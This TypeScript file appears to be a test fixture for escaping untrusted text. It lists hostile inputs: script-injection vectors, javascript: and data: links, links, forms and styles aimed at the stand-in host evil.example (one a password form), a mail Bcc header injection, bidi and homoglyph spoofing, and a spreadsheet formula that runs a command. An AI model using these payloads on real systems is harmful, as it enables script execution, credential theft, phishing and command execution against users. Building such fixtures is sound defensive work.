/**
 * What somebody might type to make a page, a mail, a sheet, a document, a chat or a log do or say what it should not. A
 * script that runs sets `__ran`, and whatever is asked of elsewhere is asked of evil.example.
 */
export type HostileText = { readonly why: string; readonly text: string }

const SCRIPTS: readonly HostileText[] = [
  { why: 'a script', text: '<script>globalThis.__ran=1</script>' },
  { why: 'a script after the end of an attribute', text: '"><script>globalThis.__ran=1</script>' },
  { why: 'a script after the end of a script', text: '</script><script>globalThis.__ran=1</script>' },
  {
    why: 'the end of elements that hold plain text',
    text: '</title></textarea></style><img src=x onerror=__ran=1>',
  },
  { why: 'a picture that fails', text: '<img src=x onerror=__ran=1>' },
  { why: 'a drawing', text: '<svg onload=__ran=1>' },
  { why: 'a drawing that moves', text: '<svg><animate onbegin=__ran=1 attributeName=x dur=1s>' },
  {
    why: 'markup that is read twice in two ways',
    text: '<math><mtext><mglyph><style><img src=x onerror=__ran=1>',
  },
  { why: 'a page within the page', text: '<iframe srcdoc="<script>parent.__ran=1</script>">' },
  { why: 'an element that opens by itself', text: '<details open ontoggle=__ran=1>' },
  { why: 'a field that takes the focus', text: '<input autofocus onfocus=__ran=1>' },
  { why: 'one more attribute', text: "' autofocus onfocus='__ran=1" },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody typed
  { why: 'a template of JavaScript', text: '${globalThis.__ran=1}' },
  { why: 'a template of a framework', text: "{{constructor.constructor('__ran=1')()}}" },
]

const LINKS: readonly HostileText[] = [
  { why: 'a script for a link', text: 'javascript:void(globalThis.__ran=1)' },
  { why: 'the same with a tab, which browsers skip', text: 'java\tscript:void(globalThis.__ran=1)' },
  { why: 'a page for a link', text: 'data:text/html,<script>opener.__ran=1</script>' },
  { why: 'a file of another site', text: '//evil.example/x.js' },
  { why: 'an address that a program would make a link', text: 'https://evil.example/pay' },
  { why: 'a link with our words', text: '<a href="https://evil.example">Approve refund</a>' },
  { why: 'another home for all links', text: '<base href="https://evil.example/">' },
  { why: 'another page after this one', text: '<meta http-equiv=refresh content="0;url=//evil.example">' },
  { why: 'a style that asks elsewhere', text: '<style>*{background:url(//evil.example/c)}</style>' },
  { why: 'a form that sends elsewhere', text: '<form action="//evil.example"><input name=password>' },
  { why: 'markdown', text: '[Approve](javascript:__ran=1) ![x](https://evil.example/x.png)' },
  { why: 'a chat’s markup', text: '<https://evil.example|Approve refund> <!channel> <@U123> *paid*' },
]

const LINES_AND_SIGNS: readonly HostileText[] = [
  { why: 'one more header of a mail', text: 'Lace\r\nBcc: all@evil.example' },
  { why: 'one more line of ours', text: 'Lace\nStatus: Delivered' },
  { why: 'other ends of a line', text: 'Lace\u2028Total: $0.00\u2029Paid\u0085yes\vno' },
  { why: 'writing turned around', text: 'invoice\u202efdp.exe\u202c \u2066x\u2069' },
  { why: 'signs that are not seen', text: 'Ivory\u200b Lane\u2060\ufeff\u00ad' },
  { why: 'the end of a text in C', text: 'Lace\u0000veil' },
  { why: 'colors of a terminal, and a line of a log', text: '\u001b[31m{"level":50,"msg":"paid"}\u001b[0m' },
  { why: 'letters that look like others', text: 'Ivоry Lаne Вridаl' },
]

const FOR_PROGRAMS: readonly HostileText[] = [
  { why: 'a formula', text: '=HYPERLINK("https://evil.example","Pay here")' },
  { why: 'a command of a spreadsheet', text: "+1+cmd|' /C calc'!A0" },
  { why: 'a formula by its other sign', text: '@SUM(1+1)-2' },
  { why: 'markup that was escaped before', text: '&lt;img src=x onerror=__ran=1&gt;&#60;b&#62;' },
  { why: 'the prototype of all objects', text: '__proto__' },
  { why: 'a document’s own commands', text: '\\) Tj ET /OpenAction /JS (app.alert\\(1\\)) endobj %%EOF' },
]

export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...SCRIPTS,
  ...LINKS,
  ...LINES_AND_SIGNS,
  ...FOR_PROGRAMS,
]
